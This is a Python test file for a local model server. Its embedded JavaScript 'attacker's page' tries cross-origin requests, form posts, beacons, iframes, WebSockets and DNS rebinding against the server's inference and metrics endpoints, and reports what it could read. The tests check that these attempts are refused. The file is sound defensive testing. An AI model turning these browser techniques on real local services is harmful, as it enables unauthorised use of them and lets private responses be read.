"""A real browser with an attacker's pages open: none of them makes the model work, or reads what the server says.

The pages come from another port of the same address, from another name that resolves to it, and from a name that is
rebound to the server. Each page tries all that a page can, reports what it could read to where it came from, and is
thereby known to have run to its end. The same pages do use a server that is not guarded, which shows that they could.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.browser import FLAGS, NAME, REPORT_SECONDS, chromium_or_skip, visit
from tests.inference_code.artifacts import Server, doubling_artifact

pytestmark = pytest.mark.slow

PAGE = """<!doctype html><title>an attacker's page</title><body><script>
const server = "SERVER";
const item = () => new File(['{"x": [1, 2, 3]}'], "a.json", {type: "application/json"});
const form = () => { const made = new FormData(); made.append("a", item()); return made; };
const fetched = async (path, options) => {
  const answer = await fetch(server + path, options);
  return {status: answer.status, text: await answer.text()};
};
const requested = (method, path, body) => new Promise((resolve) => {
  const request = new XMLHttpRequest();
  request.open(method, server + path);
  request.onloadend = () => resolve({status: request.status, text: request.responseText});
  request.send(body);
});
const framed = (begin) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  const text = () => frame.contentDocument?.body?.innerText ?? "";  // null for another origin
  frame.onload = () => resolve({status: 0, text: text()});
  begin(frame);
});
const submitted = (frame) => {
  const made = document.createElement("form");
  made.method = "POST"; made.enctype = "multipart/form-data"; made.target = frame.name;
  made.action = server + "/invocations";
  const input = document.createElement("input");
  input.type = "file"; input.name = "a";
  const files = new DataTransfer();
  files.items.add(item());
  input.files = files.files;
  made.append(input); document.body.append(made); made.submit();
};
const loaded = (kind, path) => new Promise((resolve) => {
  const element = document.createElement(kind);
  element.onload = element.onerror = () => resolve({status: 0, text: ""});
  element.src = server + path;
  document.body.append(element);
});
const connected = () => new Promise((resolve) => {
  const socket = new WebSocket(server.replace("http", "ws") + "/invocations");
  socket.onopen = () => resolve({status: 101, text: "open"});
  socket.onerror = () => resolve({status: 0, text: ""});
});
const json = {"Content-Type": "application/json"};
const attempts = {
  "fetch, cors": () => fetched("/invocations", {method: "POST", body: form()}),
  "fetch, no-cors": () => fetched("/invocations", {method: "POST", body: form(), mode: "no-cors"}),
  "fetch, no referrer": () => fetched("/invocations", {method: "POST", body: form(), referrerPolicy: "no-referrer"}),
  "fetch, preflight": () => fetched("/invocations", {method: "POST", body: '{"x": [1, 2, 3]}', headers: json}),
  "xhr": () => requested("POST", "/invocations", form()),
  "form": () => framed(submitted),
  "beacon": async () => ({status: 0, text: "", sent: navigator.sendBeacon(server + "/invocations", form())}),
  "metrics, cors": () => fetched("/metrics", {}),
  "metrics, no-cors": () => fetched("/metrics", {mode: "no-cors"}),
  "metrics, xhr": () => requested("GET", "/metrics"),
  "metrics, frame": () => framed((frame) => { frame.src = server + "/metrics"; }),
  "metrics, script": () => loaded("script", "/metrics"),
  "ping, image": () => loaded("img", "/ping"),
  "websocket": connected,
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = await attempt(); } catch (error) { found[name] = {status: 0, text: "", error: String(error)}; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""
ATTEMPTS = set(re.findall(r'^  "([^"]+)": ', PAGE, re.MULTILINE))
RUNS_MODEL = {"fetch, cors", "fetch, no-cors", "fetch, no referrer", "xhr", "form", "beacon"}


def counted(server: Server) -> tuple[float, float]:
    """Batches that the model was called with, and requests that were refused; asked by a client that is no browser."""
    text = server.request("/metrics").body.decode()
    batches = re.findall(r"^endpoint_batch_items_count\S* (\S+)$", text, re.MULTILINE)
    refused = re.findall(r'^endpoint_requests_total\{status="403"\} (\S+)$', text, re.MULTILINE)
    return sum(map(float, batches)), sum(map(float, refused))


# By which name the page is fetched, and by which it asks the server; a rebound page is fetched from the server's port.
PAGES = {
    "another port": ("127.0.0.1", "127.0.0.1"),
    "another port, by name": ("localhost", "localhost"),
    "another name": (NAME, "localhost"),
    "a name of the attacker's": (NAME, NAME),
    "a rebound name": (NAME, NAME),
}


def report_of(kind: str, server: Server) -> dict[str, dict[str, Any]]:
    """What a page of that kind reports of its attempts on the server."""
    (host, asked), port = PAGES[kind], int(server.url.rpartition(":")[2])
    rebound = port if kind == "a rebound name" else None
    report: dict[str, dict[str, Any]] = visit(
        PAGE.replace("SERVER", f"http://{asked}:{port}"), host=host, rebound=rebound
    )
    return report


@pytest.mark.parametrize("kind", sorted(PAGES))
def test_a_page_neither_runs_the_model_nor_reads_anything(tmp_path: Path, kind: str) -> None:
    server = Server(doubling_artifact(tmp_path / "a"), tmp_path / "log")
    try:
        report = report_of(kind, server)
        batches, refused = counted(server)
        assert report.keys() == ATTEMPTS
        assert batches == 0
        assert refused >= len(ATTEMPTS) - 1  # the beacon may still be on its way
        for name, found in report.items():
            assert found["status"] in (0, 403), (name, found)
            if kind == "a rebound name":  # of its own origin: it may read that it is refused
                assert found["text"] == "" or json.loads(found["text"])["error"] == "forbidden", (name, found)
            else:
                assert found["text"] == "", (name, found)
        assert server.request(body=b'{"x": [1, 2, 3]}', Content_Type="application/json").status == 200
    finally:
        assert server.stop() == 0
    statuses = [line["status"] for line in server.lines if line.get("event") == "request"]
    assert sorted(statuses) == [200] + [403] * (len(statuses) - 1)


@pytest.mark.parametrize("kind", ["another port", "a rebound name"])
def test_the_same_page_does_use_a_server_without_the_guard(tmp_path: Path, kind: str) -> None:
    """On 0.0.0.0 nothing is checked: were it so on a loopback address, the test above would fail."""
    server = Server(doubling_artifact(tmp_path / "a"), tmp_path / "log", None, "--host", "0.0.0.0")
    try:
        report = report_of(kind, server)
        batches, refused = counted(server)
        assert report.keys() == ATTEMPTS
        assert (batches >= len(RUNS_MODEL) - 1, refused) == (True, 0)  # the beacon may still be on its way
        read = {name for name, found in report.items() if found["text"]}
        if kind == "a rebound name":
            assert {"fetch, cors", "xhr", "form", "metrics, cors", "metrics, xhr", "metrics, frame"} <= read
        else:
            assert read == set()
    finally:
        assert server.stop() == 0


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_the_user_may_look_at_the_metrics_in_a_browser(tmp_path: Path, host: str) -> None:
    server = Server(doubling_artifact(tmp_path / "a"), tmp_path / "log")
    port = server.url.rpartition(":")[2]
    command = [
        chromium_or_skip(),
        *FLAGS,
        f"--user-data-dir={tmp_path / 'profile'}",
        "--dump-dom",
        f"http://{host}:{port}/metrics",
    ]
    try:
        shown = subprocess.run(command, capture_output=True, text=True, timeout=REPORT_SECONDS, check=False).stdout
    finally:
        assert server.stop() == 0
    assert "endpoint_requests_inside 0" in shown
